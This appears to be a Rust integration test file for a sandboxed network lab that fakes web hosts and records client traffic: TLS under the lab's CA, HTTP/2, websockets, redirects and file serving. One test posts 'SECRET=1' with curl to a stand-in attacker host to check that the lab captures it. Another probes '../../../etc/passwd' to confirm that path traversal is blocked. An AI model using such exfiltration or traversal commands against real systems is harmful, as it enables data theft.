//! Do plain clients get what they ask for from the lab's web, and does the lab write it down?

use std::time::Duration;

use crate::common::{output, start};
use bottle_lab::{Answer, Lab, Options};

const LIMIT: Duration = Duration::from_secs(10);

#[test]
fn tls_is_served_under_any_name_with_the_lab_s_ca() {
    let lab = start();
    let body = output(
        lab.command("curl")
            .args(["-sS", "--http1.1", "--cacert"])
            .arg(lab.ca_pem_path())
            .arg("https://api.allowed.example/v1?q=1"),
    );
    assert!(body.contains(r#""host":"api.allowed.example""#) && body.contains("HTTP/1.1"), "{body}");
    let got = lab.wait_for(LIMIT, |got| !got.requests.is_empty()).unwrap();
    assert_eq!(got.server_name.as_deref(), Some("api.allowed.example"));
    assert_eq!((got.requests[0].method.as_str(), got.requests[0].target.as_str()), ("GET", "/v1?q=1"));
    assert!(got.bytes > 200 && got.head[0] == 0x16);
}

#[test]
fn the_host_s_ca_bundle_has_the_lab_s_ca() {
    let lab = start();
    let body = output(lab.command("curl").args(["-sS", "https://web.lab.example/"]));
    assert!(body.contains("web.lab.example"), "{body}");
}

#[test]
fn http2_is_served_to_clients_that_offer_it() {
    let lab = start();
    let version = output(lab.command("curl").args([
        "-sS",
        "-o",
        "/dev/null",
        "-w",
        "%{http_version}",
        "--http2",
        "https://web.lab.example/",
    ]));
    assert_eq!(version, "2");
    assert_eq!(lab.wait_for(LIMIT, |got| !got.requests.is_empty()).unwrap().requests[0].version, "HTTP/2.0");
}

#[test]
fn a_posted_body_is_counted_and_kept() {
    let lab = start();
    let body = output(lab.command("curl").args(["-sS", "-d", "SECRET=1", "http://evil.attacker.example/take"]));
    assert!(body.contains(r#""received":8"#), "{body}");
    let got = lab.wait_for(LIMIT, |got| got.requests.iter().any(|request| request.body_bytes == 8)).unwrap();
    assert_eq!(got.requests[0].body_head, b"SECRET=1");
    assert_eq!(got.requests[0].host, "evil.attacker.example");
}

#[test]
fn big_bodies_have_exactly_their_length() {
    let lab = start();
    for scheme in ["http", "https"] {
        let url = format!("{scheme}://web.lab.example/bytes/10000001");
        let size = output(lab.command("curl").args(["-sS", "-o", "/dev/null", "-w", "%{size_download}", &url]));
        assert_eq!(size, "10000001");
    }
}

#[test]
fn a_client_that_has_said_all_and_closes_its_half_gets_the_whole_answer() {
    let lab = start();
    let script = "import socket
s=socket.create_connection(('web.lab.example',80),5)
s.sendall(b'GET /bytes/10000001 HTTP/1.1\\r\\nHost: web.lab.example\\r\\n\\r\\n'); s.shutdown(socket.SHUT_WR)
n=0
while piece := s.recv(1 << 20): n+=len(piece)
print(n > 10000001)";
    assert_eq!(output(lab.command("python3").args(["-c", script])).trim(), "True");
}

#[test]
fn echo_status_and_redirect_do_what_they_say() {
    let lab = start();
    let curl = |arguments: &[&str]| output(lab.command("curl").arg("-sS").args(arguments));
    assert_eq!(curl(&["-d", "hello", "http://web.lab.example/echo"]), "hello");
    assert_eq!(curl(&["-o", "/dev/null", "-w", "%{http_code}", "http://web.lab.example/status/418"]), "418");
    let url = "http://web.lab.example/redirect?http://api.allowed.example/there";
    assert!(curl(&["-L", url]).contains(r#""path":"/there""#));
}

#[test]
fn a_host_s_files_are_served_and_nothing_above_them() {
    bottle_lab::require();
    let directory = tempfile::tempdir().unwrap();
    std::fs::create_dir(directory.path().join("simple")).unwrap();
    std::fs::write(directory.path().join("simple/index.html"), "<p>files</p>").unwrap();
    let answer = Answer::Addresses(vec![bottle_lab::addresses::WEB.into()], 60);
    let options = Options::default().name("files.test", answer).files("files.test", directory.path());
    let lab = Lab::start(options).unwrap();
    let curl = |url: &str| output(lab.command("curl").args(["-sS", "--path-as-is", url]));
    assert_eq!(curl("https://files.test/simple/"), "<p>files</p>");
    assert!(curl("https://files.test/../../../etc/passwd").contains("no such file"));
}

#[test]
fn websocket_messages_come_back() {
    let lab = start();
    let script = "import socket,os,base64,ssl
s=ssl.create_default_context().wrap_socket(socket.create_connection(('web.lab.example',443),5),server_hostname='web.lab.example')
s.sendall(b'GET /ws HTTP/1.1\\r\\nHost: web.lab.example\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n')
head=b''
while not head.endswith(b'\\r\\n\\r\\n'): head+=s.recv(1)
assert b'101' in head and b's3pPLMBiTxaQ9kYGzzhZRbK+xOo=' in head, head
m=b'over the wire'; k=os.urandom(4)
s.sendall(bytes([0x81,0x80|len(m)])+k+bytes(c^k[i%4] for i,c in enumerate(m)))
n=s.recv(2)[1]; print(s.recv(n).decode())";
    assert_eq!(output(lab.command("python3").args(["-c", script])).trim(), "over the wire");
}

#[test]
fn a_program_answers_for_a_server_with_what_it_was_sent() {
    use std::os::unix::fs::PermissionsExt;
    let directory = tempfile::tempdir().unwrap();
    let program = directory.path().join("program");
    std::fs::write(&program, "#!/bin/sh\necho text/x; echo \"$1 $(cat)\"").unwrap();
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    let lab = Lab::start(Options::default().program("API.allowed.example", &program)).unwrap();
    let ask = ["-sS", "-w", "%{content_type}", "-d", "body", "https://api.allowed.example/a?b"];
    assert_eq!(output(lab.command("curl").args(ask)), "/a?b body\ntext/x");
}
